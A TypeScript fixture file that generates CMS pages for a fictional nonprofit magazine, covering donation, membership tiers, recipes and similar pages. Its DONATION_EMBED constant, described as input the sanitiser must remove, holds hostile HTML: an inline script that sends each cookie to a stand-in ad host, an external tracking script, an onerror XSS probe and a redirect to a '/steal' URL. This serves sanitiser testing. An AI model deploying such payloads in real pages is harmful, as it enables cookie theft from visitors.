/** Generic pages and the page singletons: donation, subscription, encyclopedia, collections, columnists, recipes. */
import type {
  CollectionsPageDocument, ColumnistsPageDocument, DonationPageDocument, EncyclopediaPageDocument, PageDocument,
  RecipesPageDocument, SubscriptionPageDocument,
} from '../schema.js';
import { ARCHIVE_START, DATASET_DATE, DAY, utc } from '../dates.js';
import { base, refs, slug } from '../docs.js';
import { image, type ImageLibrary } from '../images/library.js';
import { markdownish } from '../portable.js';
import { Rng } from '../prng.js';
import { NEWSLETTER, PRIVACY_POLICY, TERMS_OF_SERVICE } from './page-texts.js';

export const DONATION_HOST = 'https://donate.colophon-giving.org';

/**
 * Raw HTML as the donation provider hands it out, with things the sanitiser must remove: a script
 * from another host, an inline script, an event-handler attribute and an image with onerror.
 */
export const DONATION_EMBED = [
  '<div class="donation-embed">',
  `  <iframe src="${DONATION_HOST}/embed/annual-fund?theme=light&amp;amounts=18,36,72,180" title="Donate to The Colophon" width="100%" height="760" frameborder="0" onerror="window.location='https://tracker.example-ads.net/steal'"></iframe>`,
  `  <script src="${DONATION_HOST}/embed/resize.js" async></script>`,
  '  <script src="https://cdn.example-ads.net/collect.js"></script>',
  '  <script>document.cookie.split(";").forEach(function (c) { new Image().src = "https://cdn.example-ads.net/p?c=" + c; });</script>',
  '  <img src="https://cdn.example-ads.net/pixel.gif" onerror="alert(document.domain)" alt="">',
  '</div>',
].join('\n');

export function buildPages(): PageDocument[] {
  const rng = Rng.from('pages');
  const page = (title: string, s: string, text: readonly string[], i: number): PageDocument => ({
    ...base(`page-${s}`, 'page', ARCHIVE_START + i * DAY, utc(2026, 9, 1, 12)),
    title,
    slug: slug(s),
    blocks: markdownish(rng, text),
    seo: { _type: 'seo', title: `${title} | The Colophon`, description: text[1] ?? text[0] },
  });
  return [
    page('Privacy Policy', 'privacy-policy', PRIVACY_POLICY, 0),
    page('Terms of Service', 'terms-of-service', TERMS_OF_SERVICE, 1),
    page('Newsletters', 'newsletter', NEWSLETTER, 2),
  ];
}

export interface Singletons {
  donation: DonationPageDocument;
  subscription: SubscriptionPageDocument;
  encyclopedia: EncyclopediaPageDocument;
  collections: CollectionsPageDocument;
  columnists: ColumnistsPageDocument;
  recipes: RecipesPageDocument;
}

export function buildSingletons(images: ImageLibrary, featuredRecipes: readonly string[]): Singletons {
  const rng = Rng.from('singletons');
  const updated = DATASET_DATE - 20 * DAY;
  const tier = (title: string, price: string, plan: string, benefits: string[]): SubscriptionPageDocument['subscriptionTiers'][number] => ({
    _type: 'subscriptionTier',
    _key: rng.key(),
    title,
    price,
    benefits,
    embedUrl: `${DONATION_HOST}/embed/membership?plan=${plan}`,
    embed: `<iframe src="${DONATION_HOST}/embed/membership?plan=${plan}" title="${title} membership" width="100%" height="640" frameborder="0"></iframe>`,
    sandboxEmbed: `<iframe src="${DONATION_HOST}/sandbox/membership?plan=${plan}" title="${title} membership (test)" width="100%" height="640" frameborder="0"></iframe>`,
  });
  return {
    donation: {
      ...base('donationPage', 'donationPage', ARCHIVE_START, updated),
      headline: 'Support independent Jewish journalism',
      bodyText: markdownish(rng, [
        'The Colophon is a nonprofit magazine. We don’t have a paywall on most of what we publish, because we believe good writing about Jewish life should be free for everyone to read.',
        'That only works because readers like you chip in. **A gift of $18 pays for a reported news story; $180 pays for a month of our podcast.** Every donation is tax-deductible.',
      ]),
      footerText: 'The Colophon is a registered 501(c)(3) nonprofit organization. Questions about your gift? Write to giving@colophon.example.',
      donationEmbedCode: DONATION_EMBED,
      headerImage: image(images.of('banner')[0]),
      seo: { _type: 'seo', title: 'Donate | The Colophon', description: 'Support independent Jewish journalism with a tax-deductible gift.' },
    },
    subscription: {
      ...base('subscriptionPage', 'subscriptionPage', utc(2024, 1, 15), updated),
      headline: 'Become a member of The Colophon',
      sandbox: false,
      bodyText: markdownish(rng, ['Members get every story, every episode and the satisfaction of keeping a small magazine going. Choose the level that suits you.']),
      subscriptionTiers: [
        tier('Reader', '$5 / month', 'reader', ['Unlimited premium articles', 'The members-only Friday newsletter']),
        tier('Member', '$10 / month', 'member', ['Everything in Reader', 'Ad-free reading', 'Early access to podcast episodes', 'Invitations to online events']),
        tier('Patron', '$25 / month', 'patron', ['Everything in Member', 'A printed annual each December', 'Your name in our list of patrons', 'Two gift memberships a year']),
      ],
      qaBenefits: [
        { _type: 'qaBenefit', _key: rng.key(), question: 'Can I cancel at any time?', answer: 'Yes. Cancel from your account page and your membership runs until the end of the period you paid for.' },
        { _type: 'qaBenefit', _key: rng.key(), question: 'Is my membership tax-deductible?', answer: 'The portion of your membership above the value of the benefits you receive is tax-deductible.' },
        { _type: 'qaBenefit', _key: rng.key(), question: 'What counts as a premium article?', answer: 'Our longest features, some essays and our fiction carry a PREMIUM badge. Most of the magazine stays free.' },
        { _type: 'qaBenefit', _key: rng.key(), question: 'Can I give a membership as a gift?', answer: 'Yes. Patrons get two gift memberships a year, and anyone can buy one from this page.' },
        { _type: 'qaBenefit', _key: rng.key(), question: 'I already donate. Am I a member?', answer: 'Recurring donors of $10 a month or more get Member benefits automatically. Write to us if they are missing.' },
      ],
      writeToUsEmbed: `<iframe src="${DONATION_HOST}/embed/contact" title="Write to us" width="100%" height="420" frameborder="0"></iframe>`,
      newsletterEmbed: `<iframe src="${DONATION_HOST}/embed/newsletter" title="Newsletter sign-up" width="100%" height="240" frameborder="0"></iframe>`,
      bottomImage: image(images.of('banner')[1]),
      seo: { _type: 'seo', title: 'Become a member | The Colophon', description: 'Every story, every episode, and a small magazine kept going.' },
    },
    encyclopedia: {
      ...base('encyclopediaPage', 'encyclopediaPage', utc(2017, 5, 1), updated),
      title: 'The Colophon Encyclopedia',
      description: 'From afikoman to zaftig: a reader’s glossary of the Hebrew, Yiddish and Ladino words you will meet in our pages.',
      stickerLink: '/sections/history',
      stickerImage: image(images.of('avatar')[3], { alt: 'Encyclopedia sticker' }),
    },
    collections: {
      ...base('collectionsPage', 'collectionsPage', utc(2018, 3, 1), updated),
      description: 'Our editors gather stories from across the archive around a theme: start anywhere.',
    },
    columnists: {
      ...base('columnistsPage', 'columnistsPage', utc(2018, 3, 1), updated),
      description: 'The voices you come back to: our regular columnists on advice, books, food, faith and more.',
    },
    recipes: {
      ...base('recipesPage', 'recipesPage', utc(2019, 2, 1), updated),
      title: 'Recipes',
      description: 'Tested recipes for Shabbat, the holidays and every day, from our kitchen and our readers’ grandmothers.',
      featuredRecipes: refs(featuredRecipes.slice(0, 6), () => rng.key()),
      heroImage: image(images.of('banner')[2]),
    },
  };
}
